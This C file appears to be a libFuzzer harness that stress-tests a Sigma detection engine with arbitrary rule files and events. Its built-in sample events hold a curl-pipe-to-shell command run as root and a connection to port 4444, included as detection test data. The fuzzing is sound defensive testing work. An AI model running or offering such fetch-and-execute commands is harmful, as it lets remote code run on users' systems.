/*
 * fuzz_sigma.c — libFuzzer harness for the Sigma engine: arbitrary bytes as
 * a rule file (YAML, possibly several documents), loaded, compiled and, when
 * anything loaded, matched against a few events. An input may carry JSON
 * event lines after a line "#EVENTS", which are parsed with
 * record_json__parse and matched too. Any crash, leak, sanitizer report or
 * runaway allocation is a bug: bad input must give a diagnostic, never more.
 */
#include "common/record_json.h"
#include "detect/sigma.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

static int count(const struct sigma_rule_info *r, const struct vrec *rec, void *ctx)
{
	static struct vrec alert;

	sigma__alert(r, rec, &alert);
	(*(int *)ctx)++;
	return 0;
}

static void match_builtin(struct sigma_engine *e, int *hits)
{
	static struct vrec rec;

	vrec__reset(&rec, schema__event(EV_PROCESS_CREATE));
	vrec__set_str(&rec, VF_Image, "/usr/bin/curl");
	vrec__set_str(&rec, VF_CommandLine, "curl -s http://x | sh -c 'echo aGVsbG8='");
	vrec__set_str(&rec, VF_ParentImage, "/bin/bash");
	vrec__set_str(&rec, VF_User, "root");
	sigma__match(e, &rec, count, hits);
	vrec__reset(&rec, schema__event(EV_NETWORK_CONNECT));
	vrec__set_str(&rec, VF_DestinationIp, "10.1.2.3");
	vrec__set_str(&rec, VF_DestinationPort, "4444");
	vrec__set_str(&rec, VF_UtcTime, "2026-01-01 00:00:00.000");
	sigma__match(e, &rec, count, hits);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static struct vrec rec;
	const char *buf = (const char *)data;
	const char *ev = memmem(buf, size, "\n#EVENTS\n", 9);
	size_t rules_len = ev ? (size_t)(ev - buf) : size;
	struct sigma_engine *e = sigma__new();
	int hits = 0;

	if (e == NULL)
		return 0;
	sigma__add_buf(e, buf, rules_len, "fuzz.yml");
	if (sigma__compile(e, NULL, NULL) >= 0) {
		match_builtin(e, &hits);
		if (ev) {
			const char *p = ev + 9, *end = buf + size;

			while (p < end) {
				const char *nl = memchr(p, '\n', (size_t)(end - p));
				size_t n = nl ? (size_t)(nl - p) : (size_t)(end - p);
				char err[128];

				if (record_json__parse(&rec, p, n, err, sizeof(err)) == 0)
					sigma__match(e, &rec, count, &hits);
				p += n + 1;
			}
		}
	}
	sigma__free(e);
	return 0;
}
